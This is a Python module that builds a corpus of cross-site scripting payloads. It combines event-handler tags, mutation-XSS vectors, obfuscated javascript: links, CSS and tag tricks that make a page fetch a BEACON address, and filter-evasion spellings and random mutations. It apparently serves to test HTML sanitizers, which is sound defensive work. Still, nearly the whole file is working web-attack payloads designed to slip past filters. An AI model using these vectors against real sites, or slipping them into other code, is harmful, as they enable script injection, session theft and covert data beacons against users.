"""Texts that would run a script or fetch something, made of tags, attributes, spellings and mutations.

FIRE stands where the script goes, BEACON where an address goes.
"""

import html
import random
from itertools import product

HANDLERS = {
    "img": ("src=x onerror", "srcset=x onerror", "src=/ onload"),
    "svg": ("onload", "onfocus autofocus tabindex=0 onload"),
    "video": ("src=x onerror", "><source onerror"),
    "audio": ("src=x onerror",),
    "details": ("open ontoggle",),
    "input": ("autofocus onfocus", "type=image src=x onerror"),
    "body": ("onload", "onpageshow"),
    "iframe": ("onload", "src=about:blank onload"),
    "object": ("data=x onerror",),
    "marquee": ("loop=1 width=0 onstart",),
    "textarea": ("autofocus onfocus",),
    "select": ("autofocus onfocus",),
    "link": ("rel=stylesheet href=x onerror",),
    "script": ("src=x onerror",),
    "style": ("onload",),
    "custom-tag": ("tabindex=0 autofocus onfocus", "style=animation-name:x onanimationstart"),
}
WHOLE = [
    "<script>FIRE</script>",
    "<script src=\"data:text/javascript,FIRE\"></script>",
    "<script type=module>FIRE</script>",
    "<svg><script>FIRE</script></svg>",
    "<svg><script href=\"data:text/javascript,FIRE\"/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=FIRE&gt;\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=FIRE>",
    "<svg></p><style><a id=\"</style><img src=x onerror=FIRE>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=FIRE>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=FIRE>",
    "<iframe srcdoc=\"<script>top.fired=1;FIRE</script>\"></iframe>",
    "<iframe src=\"javascript:FIRE\"></iframe>",
    "<object data=\"javascript:FIRE\"></object>",
    "<embed src=\"javascript:FIRE\">",
    "<svg><animate onbegin=FIRE attributeName=x dur=1s>",
    "<svg><set onbegin=FIRE attributeName=x>",
    "<template><s><template><s><img src=x onerror=FIRE>@</s>@</template>",
    "<template shadowrootmode=open><img src=x onerror=FIRE></template>",
    "<base href=\"javascript:/a/-FIRE/\"><a href=.>x</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:FIRE\">",
    "<title><img src=x onerror=FIRE></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=FIRE>\">",
    "<select><template><img src=x onerror=FIRE></template></select>",
    "{{constructor.constructor('FIRE')()}}",
    "<x hx-get=/ hx-trigger=load hx-on::load=FIRE>x</x>",
    "<x hx-on:htmx:load=FIRE data-hx-on:load=FIRE>x</x>",
    "<img src=x:alert onerror=eval(name='FIRE')>",
]  # fmt: skip
LINKS = ["javascript:FIRE", "JaVaScRiPt:FIRE", "java\tscript:FIRE", "java\nscript:FIRE", " javascript:FIRE",
         "\x01javascript:FIRE", "javascript&colon;FIRE", "&#106;avascript:FIRE", "&#x6A;avascript&#58;FIRE",
         "java&Tab;script:FIRE", "data:text/html,<script>FIRE</script>", "vbscript:FIRE", "javascript://%0aFIRE",  # noqa: E501
         "feed:javascript:FIRE", "view-source:javascript:FIRE"]  # fmt: skip
HOLDERS = ['<a href="{}" id=js>x</a>', '<form action="{}"><button>x</button></form>', '<area href="{}">',
           '<button form=f formaction="{}">x</button><form id=f></form>',
           '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<math href="{}">x</math>',
           '<iframe src="{}"></iframe>']  # fmt: skip
FETCHING = [
    *(f"<{tag} {name}=BEACON>" for tag, name in (
        ("img", "src"), ("img", "srcset"), ("video", "poster"), ("video", "src"), ("audio", "src"),
        ("source", "src"),
        ("track", "src"), ("embed", "src"), ("object", "data"), ("iframe", "src"), ("frame", "src"), ("script", "src"),  # noqa: E501
        ("input type=image", "src"), ("body", "background"), ("table", "background"), ("td", "background"),
        ("link rel=stylesheet", "href"), ("link rel=prefetch", "href"), ("link rel=preload as=image", "href"),
        ("link rel=icon", "href"), ("link rel=dns-prefetch", "href"), ("link rel=preconnect", "href"),
        ("svg><image", "href"), ("svg><image", "xlink:href"), ("svg><use", "href"), ("svg><feImage", "href"),
        ("link rel=manifest", "href"), ("link rel=modulepreload", "href"), ("picture><source", "srcset"),
    )),
    *(f"<p style=\"{rule}\">x</p>" for rule in (
        "background:url(BEACON)", "background-image:url('BEACON')", "list-style-image:url(BEACON)",
        "border-image:url(BEACON)", "content:url(BEACON)", "cursor:url(BEACON),auto", "background:\\75rl(BEACON)",  # noqa: E501
        "background:image-set('BEACON' 1x)", "mask:url(BEACON)", "filter:url(BEACON#x)", "shape-outside:url(BEACON)",  # noqa: E501
        "background:u/**/rl(BEACON)", "--x:url(BEACON);background:var(--x)", "width:1px;background:URL(BEACON)",  # noqa: E501
    )),
    "<style>@import 'BEACON';</style>", "<style>@import url(BEACON);</style>",
    "<style>*{background:url(BEACON)}</style>", "<style>@font-face{font-family:x;src:url(BEACON)}*{font-family:x}</style>",  # noqa: E501
    "<meta http-equiv=refresh content='0;url=BEACON'>", "<form action=BEACON><input autofocus></form>",
    "<a href=BEACON ping=BEACON>x</a>", "<base href=BEACON><img src=x>", "<svg><style>@import 'BEACON'</style></svg>",  # noqa: E501
    "<math><mi xlink:href=BEACON>x</mi></math>", "<noscript><img src=BEACON></noscript>",
]  # fmt: skip


def spellings(text: str) -> list[str]:
    """The same in ways that a filter may read otherwise than a browser."""
    return [
        text,
        text.replace(" ", "/", 1),
        text.replace(" ", "\t", 1).replace("<", "<\x00", 0),
        "".join(c.upper() if n % 2 else c for n, c in enumerate(text)).replace("fIrE", "FIRE")
        if "FIRE" not in text
        else text.swapcase().replace("fire", "FIRE"),
        f'">{text}',
        f"'>{text}",
        f"</title></textarea></style></script>{text}",
        f"<![CDATA[{text}]]>",
        f"<!--><!-->{text}-->",
        html.escape(text),
        f"<p{text}",
        f"<<{text}",
        text + "<!--",
        f"\ufeff{text}\u202e",
    ]


def mutated(text: str, chance: random.Random) -> str:
    """A few characters put in, taken out or doubled, where browsers forgive."""
    said = list(text)
    for _again in range(chance.randint(1, 3)):
        at = chance.randrange(len(said))
        said[at:at] = chance.choice(
            ["\x00", "\n", "/", "<", ">", '"', "'", "`", "&", "=", "<!", "<svg>", "</p>"]
        )
    return "".join(said)


def scripts(mutations: int = 0, seed: int = 5) -> list[str]:
    """Everything that wants to run something, each with FIRE in it, in one order."""
    plain = [f"<{tag} {way}=FIRE>x</{tag}>" for tag, ways in HANDLERS.items() for way in ways]
    plain += WHOLE
    plain += [holder.format(link) for holder, link in product(HOLDERS, LINKS)]
    found = dict.fromkeys(plain)
    found |= dict.fromkeys(said for text in plain[: len(plain) // 2] for said in spellings(text))
    chance = random.Random(seed)
    made = [mutated(chance.choice(plain), chance) for _number in range(mutations)]
    found |= dict.fromkeys(text for text in made if "FIRE" in text)
    return list(found)
